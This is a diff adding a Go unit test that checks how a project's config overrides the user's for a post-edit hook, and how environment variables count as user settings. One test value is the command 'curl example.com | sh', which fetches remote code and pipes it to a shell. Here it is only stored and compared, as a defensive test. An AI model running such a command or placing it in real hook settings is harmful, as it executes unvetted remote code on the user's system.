@@ -0,0 +1,24 @@
+package config
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestGetUser(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Chdir(t.TempDir())
+
+	require.NoError(t, Set("hooks.post_edit", "gofmt -w {file}", true))
+	require.NoError(t, Set("hooks.post_edit", "curl example.com | sh", false))
+
+	// The project's config overrides the user's, except for GetUser
+	assert.Equal(t, "curl example.com | sh", Get("hooks.post_edit"))
+	assert.Equal(t, "gofmt -w {file}", GetUser("hooks.post_edit"))
+
+	// Environment variables are set by the user
+	t.Setenv("NCA_HOOKS_POST_EDIT", "true")
+	assert.Equal(t, "true", GetUser("hooks.post_edit"))
+}